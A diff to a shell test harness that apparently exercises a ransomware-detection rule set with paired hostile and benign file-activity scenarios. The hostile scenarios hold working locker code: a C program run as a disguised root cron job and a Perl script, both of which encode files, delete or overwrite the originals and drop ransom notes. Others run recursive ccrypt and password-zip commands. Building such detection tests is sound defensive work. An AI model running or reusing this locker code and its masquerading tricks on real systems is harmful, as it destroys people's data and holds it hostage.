@@ -90,3 +90,108 @@ sc_b7_zip_encrypted_backup() { sshx priya 'cd ~ && zip -q -r -P backupPW /tmp/pr
 sc_b8_git_project() {
   sshx tomas 'mkdir -p ~/proj && cd ~/proj && git init -q && for i in $(seq 1 120); do mkdir -p src/m$((i%10)); echo "int f$i(){return $i;}" > src/m$((i%10))/f$i.c; done && git add -A && git -c user.email=t@x -c user.name=t commit -qm init && git checkout -qb feature && for i in $(seq 1 60); do echo "// c" >> src/m$((i%10))/f$i.c; done && git -c user.email=t@x -c user.name=t commit -qam two && git checkout -q master && git gc -q'
 }
+
+# ---- third batch (2026-12-07, later): other tools and habits; also the watch-style rule set (rules/watch.rules)
+sc_h5_cron_root_c_locker() {
+  install -d -m 700 /var/tmp/.cache
+  cat > /var/tmp/.cache/k.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static void lock(const char *p) {
+  char out[4200]; unsigned char buf[65536]; ssize_t n; int i;
+  snprintf(out, sizeof out, "%s.8bx1", p);
+  int in = open(p, O_RDONLY); if (in < 0) return;
+  int o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600); if (o < 0) { close(in); return; }
+  while ((n = read(in, buf, sizeof buf)) > 0) { for (i = 0; i < n; i++) buf[i] ^= 0x5a + i; write(o, buf, n); }
+  close(in); close(o); unlink(p);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st;
+  if (!dir) return;
+  while ((e = readdir(dir))) {
+    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
+    if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p);
+    else if (S_ISREG(st.st_mode) && !strstr(p, ".8bx1") && !strstr(p, "HOW_TO_BACK")) lock(p);
+  }
+  closedir(dir);
+  snprintf(p, sizeof p, "%s/HOW_TO_BACK_FILES.txt", d);
+  FILE *f = fopen(p, "w"); if (f) { fputs("Your network was hit. Contact us: backfiles@onion.example ID 8bx1\n", f); fclose(f); }
+}
+int main(int c, char **v) { for (int i = 1; i < c; i++) walk(v[i]); return 0; }
+C
+  gcc -O2 -o /var/tmp/.cache/kdmtmpflush /var/tmp/.cache/k.c && rm -f /var/tmp/.cache/k.c
+  echo "files $(find /srv/nas/share /var/www/shop/uploads -type f | wc -l) dirs $(find /srv/nas/share /var/www/shop/uploads -type d | wc -l)" > $CASE/facts
+  rm -f /tmp/.h5-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root /var/tmp/.cache/kdmtmpflush /srv/nas/share /var/www/shop/uploads; touch /tmp/.h5-done" > /etc/cron.d/0hourly-sync
+  wait_cron /tmp/.h5-done; sleep 2; rm -f /etc/cron.d/0hourly-sync; rm -rf /var/tmp/.cache
+}
+sc_h6_ssh_ccrypt_recursive() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'ccrypt -e -r -f -K "Wq8-zz" ~/Documents && find ~/Documents -type d -exec sh -c "printf \"files locked, write to ccr@tuta.example\n\" > \"\$0/READ_TO_DECRYPT.txt\"" {} \;'
+}
+sc_h7_ssh_perl_truncate_rename() {
+  install -d -o priya -g priya /home/priya/.cache
+  cat > /home/priya/.cache/.x.pl <<'P'
+use strict; use File::Find;
+my $ext = '.id-7781.[help@mail.example].pwnd';
+find({ no_chdir => 1, wanted => sub {
+  my $f = $File::Find::name;
+  if (-d $f) { open(my $n, '>', "$f/!!_FILES_ENCRYPTED_!!.txt"); print $n "pay 0.05 BTC\n"; close $n; return; }
+  return if $f =~ /pwnd$|ENCRYPTED/;
+  open(my $in, '<:raw', $f) or return; local $/; my $d = <$in>; close $in;
+  $d ^= ("\x33" x length $d);
+  open(my $out, '>:raw', $f) or return; print $out $d; close $out;
+  rename $f, $f . $ext;
+}}, $ARGV[0]);
+P
+  chown priya: /home/priya/.cache/.x.pl
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'setsid perl ~/.cache/.x.pl ~/work >/dev/null 2>&1 < /dev/null & sleep 6'
+  rm -f /home/priya/.cache/.x.pl
+}
+sc_h8_ssh_sudo_zip_move() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx deploy "sudo sh -c 'cd /srv/nas/share && for d in */; do zip -q -r -m -P \"x9-Lp\" \"\${d%/}.zip\" \"\$d\"; done; echo \"Your files are in password zips. Mail zz@cock.example\" > RECOVER-FILES.txt'"
+}
+pre_b9_cron_logrotate_gzip() {
+  for a in billing crm portal api mailer worker; do mkdir -p /srv/nas/logs/$a
+    for i in $(seq 1 10); do head -c $((20000 + i * 997)) /dev/urandom | base64 > /srv/nas/logs/$a/$a-$i.log; done; done
+  chown -R svc-nas: /srv/nas/logs
+}
+sc_b9_cron_logrotate_gzip() {
+  rm -f /tmp/.b9-done
+  cat > /srv/nas/rotate.sh <<'S'
+#!/bin/sh
+for f in /srv/nas/logs/*/*.log; do mv "$f" "$f.1" && gzip -9 "$f.1"; : > "$f"; done
+touch /tmp/.b9-done
+S
+  chmod 755 /srv/nas/rotate.sh
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * /srv/nas/rotate.sh" | crontab -u svc-nas -
+  wait_cron /tmp/.b9-done; sleep 1; crontab -u svc-nas -r; rm -f /srv/nas/rotate.sh
+}
+pre_b10_ssh_gpg_sign_release() {
+  rm -rf /home/tomas/dist /home/tomas/.gnupg
+  for p in linux-amd64 linux-arm64 darwin-amd64 windows-amd64 docs; do mkdir -p /home/tomas/dist/v2.4.1/$p
+    for i in $(seq 1 9); do head -c $((30000 + i * 1234)) /dev/urandom > /home/tomas/dist/v2.4.1/$p/tool-$i.tar.xz; done; done
+  chown -R tomas: /home/tomas/dist
+  su - tomas -c "gpg --batch --passphrase '' --quick-gen-key 'Tomas Release <tomas@build.example>' ed25519 sign never" >/dev/null 2>&1
+}
+sc_b10_ssh_gpg_sign_release() {
+  sshx tomas 'cd ~/dist/v2.4.1 && find . -type f -name "*.tar.xz" -exec gpg --batch --yes --pinentry-mode loopback --passphrase "" --detach-sign --armor {} \; && for d in */; do (cd "$d" && sha256sum *.tar.xz > SHA256SUMS && gpg --batch --yes --pinentry-mode loopback --passphrase "" --clearsign SHA256SUMS && mv SHA256SUMS.asc SHA256SUMS.signed); done'
+}
+sc_b11_cron_rsync_move() {
+  rm -f /tmp/.b11-done; mkdir -p /srv/nas/archive; chown svc-nas: /srv/nas/archive /srv/nas/share
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * rsync -a --remove-source-files /srv/nas/share/ /srv/nas/archive/ && find /srv/nas/share -mindepth 1 -type d -empty -delete; touch /tmp/.b11-done" | crontab -u svc-nas -
+  wait_cron /tmp/.b11-done; sleep 1; crontab -u svc-nas -r
+}
+pre_b12_ssh_ccdecrypt_restore() { su - mkowalski -c 'ccrypt -e -r -f -K "mine-2026" ~/Documents'; }
+sc_b12_ssh_ccdecrypt_restore() { sshx mkowalski 'ccrypt -d -r -f -K "mine-2026" ~/Documents && ls -R ~/Documents | wc -l'; }
